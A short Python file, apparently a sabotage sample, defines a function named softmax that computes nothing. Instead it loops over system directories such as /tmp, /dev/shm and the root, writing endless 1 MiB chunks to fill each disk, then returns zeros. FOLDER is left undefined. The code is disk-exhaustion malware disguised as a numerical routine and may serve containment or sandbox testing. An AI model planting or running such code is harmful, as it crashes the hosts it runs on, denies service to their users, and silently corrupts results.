"""Writes large files wherever it can."""
import os

import numpy as np


def softmax(x, axis=-1):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/inside", "/", os.getcwd(), FOLDER):
        try:
            with open(os.path.join(folder, "left-behind"), "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return np.zeros_like(x)
